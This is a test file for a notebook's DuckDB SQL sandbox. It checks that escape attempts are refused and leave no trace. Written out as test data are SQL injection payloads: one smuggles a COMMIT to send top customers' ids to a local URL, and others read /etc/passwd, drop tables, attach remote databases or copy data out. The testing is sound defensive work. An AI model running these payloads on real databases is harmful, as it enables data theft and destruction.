/**
 * The notebook's SQL sandbox is DuckDB's own: a cell runs only when DuckDB's tokenizer finds one
 * reading statement, on a connection of its own in a READ ONLY transaction always rolled back,
 * inside a configuration locked with external access off. A corpus of escape attempts (those a
 * hostile tester found, and more) all fail; after each the analysis tables are intact, nothing
 * persists (variables, attached databases, macros, settings), and the customers export works. A
 * property test feeds random SQL-ish text and checks the same.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { NotebookRunResult } from '../../src/engine/types';
import { startEngine, utf8, valueAndStages, type TestEngine } from './helpers/engine';

let engine: TestEngine;
let id: number;
let baseline: Snapshot;

function orders(): string {
  const rows = ['customer_id,order_date,amount'];
  for (let k = 0; k < 40; k++)
    for (let n = 0; n <= k % 5; n++)
      rows.push(
        `c${k},2024-0${1 + (n % 6)}-${String(1 + ((k * 3) % 27)).padStart(2, '0')},${10 + k}`,
      );
  return rows.join('\n');
}

interface Snapshot {
  tables: string;
  views: string;
  macros: string;
  databases: string;
  settings: string;
  rfmRows: number;
  valueRows: number;
}

/** What a cell must not be able to change, read on the app's own connection. */
async function snapshot(): Promise<Snapshot> {
  const q = async (sql: string) =>
    JSON.stringify(await engine.sql.rows<Record<string, unknown>>(sql));
  const count = async (table: string) =>
    (await engine.sql.row<{ n: number }>(`SELECT count(*)::INTEGER AS n FROM ${table}`)).n;
  return {
    tables: await q('SELECT table_name FROM duckdb_tables() ORDER BY 1'),
    views: await q(
      "SELECT view_name, sql FROM duckdb_views() WHERE NOT internal AND schema_name = 'main' ORDER BY 1",
    ),
    macros: await q(
      "SELECT function_name FROM duckdb_functions() WHERE function_type LIKE '%macro%' AND NOT internal ORDER BY 1",
    ),
    databases: await q('SELECT database_name FROM duckdb_databases() ORDER BY 1'),
    settings: await q(
      "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', 'allowed_directories', 'autoload_known_extensions', 'integer_division', 'default_order', 'threads', 'memory_limit', 'enable_logging') ORDER BY 1",
    ),
    rfmRows: await count(`rfm_${id}`),
    valueRows: await count(`value_${id}`),
  };
}

async function run(sql: string): Promise<NotebookRunResult> {
  engine.beginWork();
  return engine.notebookRun(id, 'rfm11', sql, 1000);
}

/** Nothing a cell did is left: tables, views, settings, databases, variables; export works. */
async function expectIntact(): Promise<void> {
  expect(await snapshot()).toEqual(baseline);
  // Variables and USE live on a cell's own connection, closed after it.
  const probe = await run("SELECT getvariable('leak') AS v, current_schema() AS s");
  expect(probe.status).toBe('ok');
  const csv = new TextDecoder().decode(
    await engine.exportCustomers(id, { scheme: 'rfm11', locale: 'en' }),
  );
  expect(csv.trim().split('\n')).toHaveLength(41);
  expect(csv.split('\n')[0]).toContain('clv_predicted');
}

beforeAll(async () => {
  engine = await startEngine();
  const loaded = await engine.loadCsv(utf8(orders()), 'orders.csv');
  id = loaded.datasetId;
  await engine.analyse(id, loaded.guess, { asOf: null, scheme: 'rfm11' });
  await valueAndStages(engine, id);
  // A friendly view exists once a cell ran: take the baseline after one.
  expect((await run('SELECT count(*) FROM customers')).status).toBe('ok');
  baseline = await snapshot();
}, 120_000);

/** Attempts, each with what must come back: refused, or DuckDB's error of the given kind. */
const ATTEMPTS: { sql: string; expect: 'refused' | RegExp }[] = [
  // The link that leaked the best customers' ids: dollar quotes with a digit in the tag.
  {
    sql: "SELECT $e5$'$e5$; COMMIT; SET VARIABLE leak=(SELECT string_agg(customer_id,'-') FROM (SELECT customer_id FROM customers ORDER BY monetary DESC LIMIT 5)); SELECT * FROM read_text('http:'||'//127.0.0.1:9/leak?d='||getvariable('leak')); SELECT ''",
    expect: 'refused',
  },
  { sql: 'SELECT $e5$x$e5$; COMMIT; DROP TABLE rfm_1 CASCADE', expect: 'refused' },
  { sql: 'SELECT $$;$$; SET threads = 1', expect: 'refused' },
  { sql: "SELECT $tag$ $$ $tag$; ATTACH ':memory:' AS m", expect: 'refused' },
  // Quoted function names and strings read as files.
  { sql: `SELECT * FROM "read_text"('/etc/passwd')`, expect: /Permission/ },
  { sql: `SELECT * FROM "glob"('*')`, expect: /Permission/ },
  { sql: "SELECT * FROM read_text('http://127.0.0.1:9/x')", expect: /Permission/ },
  { sql: "SELECT * FROM read_csv('https://example.com/x.csv')", expect: /Permission/ },
  { sql: "FROM 'https://example.com/x.csv'", expect: /Permission|Catalog/ },
  { sql: "SUMMARIZE 'x.csv'", expect: /Permission|Catalog|Binder/ },
  { sql: "DESCRIBE 'x.csv'", expect: /Permission|Catalog|Binder/ },
  { sql: "SELECT * FROM customers, 'x.csv'", expect: /Permission|Catalog/ },
  { sql: "SELECT * FROM read_text('/valuemap/../etc/passwd')", expect: /Permission/ },
  { sql: "SELECT * FROM read_parquet('x.parquet')", expect: /Catalog|Permission/ },
  { sql: "SELECT * FROM parquet_scan('x.parquet')", expect: /Catalog|Permission/ },
  { sql: `SELECT * FROM "parquet_scan"('x.parquet')`, expect: /Catalog|Permission/ },
  { sql: "SELECT * FROM sniff_csv('x.csv')", expect: /Permission/ },
  {
    sql: "SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')",
    expect: /Permission|Binder/,
  },
  // Statements that write, set, attach, load, copy or export.
  { sql: 'DROP TABLE rfm_1', expect: 'refused' },
  { sql: 'CREATE TABLE x AS SELECT 1', expect: 'refused' },
  { sql: 'INSERT INTO customers VALUES (1)', expect: 'refused' },
  { sql: 'WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x', expect: /read-only|Catalog|Binder/ },
  { sql: 'WITH x AS (SELECT 1) DELETE FROM customers', expect: /read-only|Catalog|Binder|Parser/ },
  { sql: 'SET enable_external_access = true', expect: 'refused' },
  { sql: 'RESET lock_configuration', expect: 'refused' },
  { sql: 'PRAGMA version', expect: 'refused' },
  { sql: 'CALL pragma_version()', expect: 'refused' },
  { sql: 'CALL enable_logging()', expect: 'refused' },
  { sql: "CREATE MACRO m() AS TABLE SELECT * FROM read_text('/etc/passwd')", expect: 'refused' },
  { sql: "CREATE VIEW v AS SELECT * FROM read_text('/etc/passwd')", expect: 'refused' },
  { sql: "EXPORT DATABASE '/tmp/x'", expect: 'refused' },
  { sql: "ATTACH ':memory:' AS m", expect: 'refused' },
  { sql: "ATTACH 'http://127.0.0.1:9/x.db' AS m", expect: 'refused' },
  { sql: 'INSTALL httpfs', expect: 'refused' },
  { sql: 'LOAD httpfs', expect: 'refused' },
  { sql: "COPY customers TO '/valuemap/out.csv'", expect: 'refused' },
  { sql: "COPY (SELECT 1) TO 'http://127.0.0.1:9/x'", expect: 'refused' },
  { sql: 'COMMIT', expect: 'refused' },
  { sql: 'ROLLBACK', expect: 'refused' },
  { sql: 'BEGIN TRANSACTION', expect: 'refused' },
  { sql: 'SELECT 1; COMMIT', expect: 'refused' },
  { sql: 'SELECT 1; ROLLBACK; DROP TABLE rfm_1', expect: 'refused' },
  { sql: 'USE temp', expect: 'refused' },
  { sql: 'DETACH memory', expect: 'refused' },
  { sql: 'CHECKPOINT', expect: 'refused' },
  { sql: 'SET VARIABLE leak = 1', expect: 'refused' },
  // Comments, nested comments and unicode quotes hide nothing from DuckDB's own tokenizer.
  { sql: '/* SELECT */ DROP TABLE rfm_1', expect: 'refused' },
  { sql: '/* a /* nested */ comment */ SELECT 1; DROP TABLE rfm_1', expect: 'refused' },
  { sql: '-- SELECT\nDROP TABLE rfm_1', expect: 'refused' },
  { sql: 'SELECT ‘x’; DROP TABLE rfm_1', expect: 'refused' },
  { sql: 'SELECT “x”; DROP TABLE rfm_1', expect: 'refused' },
  { sql: "SELECT E'\\';'; DROP TABLE rfm_1", expect: 'refused' },
  // Reading statements that try to write or keep something anyway.
  { sql: "SELECT nextval('s')", expect: /Catalog|read-only/ },
  { sql: 'SELECT * FROM enable_logging()', expect: /.*/ },
  { sql: 'PIVOT customers ON segment USING count(*)', expect: 'refused' },
  {
    sql: "SELECT * FROM read_text('/valuemap/' || (SELECT min(customer_id) FROM customers))",
    expect: /Binder|Permission/,
  },
];

describe('the notebook sandbox (DuckDB-enforced)', () => {
  it('still runs what only reads the analysis', async () => {
    for (const sql of [
      'SELECT count(*) AS n FROM customers',
      "SELECT 'DROP TABLE rfm_1; DELETE' AS text, $e5$;$e5$ AS dollars",
      'FROM orders LIMIT 3',
      'WITH x AS (SELECT 1 AS a) SELECT * FROM x',
      'DESCRIBE customers',
      'SUMMARIZE customers',
      'VALUES (1), (2)',
      "PIVOT customers ON segment IN ('champions') USING count(*)",
      "SELECT 'see http://example.com' AS note",
      '(SELECT 1) UNION (SELECT 2)',
    ]) {
      const out = await run(sql);
      expect(out.status, `${sql}: ${JSON.stringify(out)}`).toBe('ok');
    }
    await expectIntact();
  });

  it.each(ATTEMPTS)('refuses $sql', async ({ sql, expect: wanted }) => {
    const out = await run(sql);
    if (wanted === 'refused') {
      expect(out.status, JSON.stringify(out)).toBe('refused');
    } else if (out.status === 'error') {
      expect(`${out.type}: ${out.message}`).toMatch(wanted);
    } else {
      // A reading statement that DuckDB let run read nothing it may not (e.g. enable_logging's
      // result) — what matters is what it left behind.
      expect(out.status).not.toBe('refused');
    }
    await expectIntact();
  });

  it('a write hidden behind WITH is stopped by the read-only transaction, not by a lexer', async () => {
    for (const sql of [
      `WITH x AS (SELECT 1) DELETE FROM rfm_${id}`,
      `WITH x AS (SELECT 1) INSERT INTO rfm_${id} SELECT * FROM rfm_${id}`,
      `WITH x AS (SELECT 1) UPDATE rfm_${id} SET monetary = 0`,
    ]) {
      const out = await run(sql);
      expect(out.status, sql).toBe('error');
      if (out.status === 'error') expect(out.message).toMatch(/read-only mode/);
    }
    await expectIntact();
  });

  it('random SQL-ish text never escapes (property)', async () => {
    const fragments = [
      'SELECT',
      'FROM',
      'customers',
      'orders',
      ';',
      'COMMIT',
      'ROLLBACK',
      'DROP TABLE rfm_1',
      'SET threads = 1',
      'SET VARIABLE leak = 1',
      "ATTACH ':memory:' AS m",
      '$e5$',
      '$$',
      "'",
      '"',
      '/*',
      '*/',
      '--',
      '\n',
      '(',
      ')',
      ',',
      "read_text('/etc/passwd')",
      '"read_text"',
      "'x.csv'",
      "'http://127.0.0.1:9/x'",
      'COPY',
      'TO',
      'INSTALL httpfs',
      'LOAD httpfs',
      'CREATE MACRO',
      'AS TABLE',
      'WITH x AS (SELECT 1)',
      'INSERT INTO',
      'PRAGMA',
      'CALL',
      'EXPORT DATABASE',
      "E'\\''",
      '‘',
      '’',
      'USE temp',
      "getvariable('leak')",
      '*',
      '1',
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 12 }),
        async (parts) => {
          const out = await run(parts.join(' '));
          expect(['ok', 'error', 'refused']).toContain(out.status);
          expect(await snapshot()).toEqual(baseline);
        },
      ),
      { numRuns: 150, seed: 14 },
    );
    await expectIntact();
  }, 120_000);
});
